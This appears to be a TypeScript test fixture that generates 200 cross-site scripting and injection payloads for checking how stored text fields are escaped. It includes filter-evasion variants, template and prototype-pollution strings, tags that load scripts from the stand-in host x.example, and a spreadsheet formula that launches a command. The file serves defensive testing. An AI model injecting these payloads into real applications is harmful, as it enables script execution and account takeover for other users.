/** Ways to have markup run, as they stand in stored texts. Each calls `hit()` where it gets anywhere. */
const HIT = "hit()";
const TAGS = ["img", "svg", "body", "video", "audio", "input", "details", "iframe", "object", "math", "marquee", "style", "x"];
const EVENTS = ["onerror", "onload", "onfocus", "ontoggle", "onstart", "onmouseover", "onanimationstart", "onbegin"];

const WHOLE = [
  `<script>${HIT}</script>`, `<SCRIPT SRC=//x.example/x.js></SCRIPT>`, `"><script>${HIT}</script>`, `'-${HIT}-'`, `\`-${HIT}-\``, `\${${HIT}}`, `{{${HIT}}}`,
  `{{constructor.constructor('${HIT}')()}}`, `#{${HIT}}`, `<%= ${HIT} %>`, `javascript:${HIT}`, `JaVaScRiPt:${HIT}`, `java\tscript:${HIT}`, `data:text/html,<script>${HIT}</script>`,
  `vbscript:${HIT}`, `<a href="javascript:${HIT}">x</a>`, `[x](javascript:${HIT})`, `![x](x"onerror="${HIT})`, `https://x.example/"onmouseover="${HIT}`, `https://x.example/?q=<svg/onload=${HIT}>`,
  `<iframe srcdoc="<script>parent.${HIT}</script>">`, `<base href=//x.example/>`, `<meta http-equiv=refresh content="0;url=javascript:${HIT}">`, `<link rel=stylesheet href=//x.example/x.css>`,
  `<form action=javascript:${HIT}><button>x</button></form>`, `<noscript><p title="</noscript><img src=x onerror=${HIT}>">`, `<svg><script>${HIT}</script></svg>`, `<svg><use href="data:image/svg+xml,<svg id=x onload=${HIT}/>#x">`,
  `<math><mtext></p><img src=x onerror=${HIT}>`, `<template><img src=x onerror=${HIT}></template>`, `<textarea><img src=x onerror=${HIT}>`, `</title><img src=x onerror=${HIT}>`, `--><img src=x onerror=${HIT}>`, `]]><img src=x onerror=${HIT}>`,
  `<img src=x onerror=&#104;it()>`, `&lt;img src=x onerror=${HIT}&gt;`, `&#60;script&#62;${HIT}&#60;/script&#62;`, `%3Cscript%3E${HIT}%3C/script%3E`, `\\u003cscript\\u003e${HIT}\\u003c/script\\u003e`, `\\x3cscript\\x3e${HIT}`,
  `＜script＞${HIT}＜/script＞`, `<scr<script>ipt>${HIT}</scr</script>ipt>`, `<<script>${HIT}//<</script>`, `<img src=x:x onerror\n=${HIT}>`, `<img/src=x/onerror=${HIT}>`, `<img src="x\`onerror=${HIT}">`,
  `" autofocus onfocus=${HIT} x="`, `' onclick=${HIT} '`, `"]};${HIT}//`, `";${HIT};//`, `';${HIT};//`, `\\";${HIT};//`, `</script><script>${HIT}</script>`, `/*-/*\`/*\\\`/*'/*"/**/(${HIT})//`,
  `{"__proto__":{"innerHTML":"<img src=x onerror=${HIT}>"}}`, `__proto__`, `constructor`, `toString`, `<plaintext>`, `<xmp><img src=x onerror=${HIT}></xmp>`, `=cmd|'/c calc'!A1`, `@import '//x.example/x.css'`,
  `\u202E<img src=x onerror=${HIT}>`, `\u2066"><svg onload=${HIT}>\u2069`, `<portal src=//x.example>`, `<embed src=javascript:${HIT}>`, `<isindex action=javascript:${HIT} type=image>`, `<table background=javascript:${HIT}>`,
  `<div style="background:url(javascript:${HIT})">`, `<p style=animation:x onanimationend=${HIT}>`, `<q/oncut=${HIT}>`, `<keygen autofocus onfocus=${HIT}>`, `<a href=x download onclick=${HIT}>x</a>`, `<button popovertarget=x onbeforetoggle=${HIT}>x`,
];

/** Two hundred texts, no two alike, none longer than a name may be. */
export const HOSTILE: string[] = [
  ...WHOLE,
  ...TAGS.flatMap((tag) => EVENTS.map((event) => `<${tag} src=x ${event}=${HIT}>`)),
  ...TAGS.flatMap((tag) => [`"><${tag.toUpperCase()}/ONERROR=${HIT} SRC=x>`, `'><${tag} autofocus tabindex=1 onfocus=${HIT}>`]),
].slice(0, 200);

/** All of the texts in so few pieces as there must be, for fields that take one longer text. */
export function inPieces(most: number, between = " "): string[] {
  const pieces: string[] = [];
  for (const text of HOSTILE.map((one) => (between === "\n" ? one : one.replace(/[\n\t\u202E\u2066\u2069]/g, " ").trim()))) {
    const longer = [...pieces.slice(-1), text].join(between);
    if (pieces.length > 0 && longer.length <= most) pieces[pieces.length - 1] = longer;
    else pieces.push(text.slice(0, most));
  }
  return pieces;
}
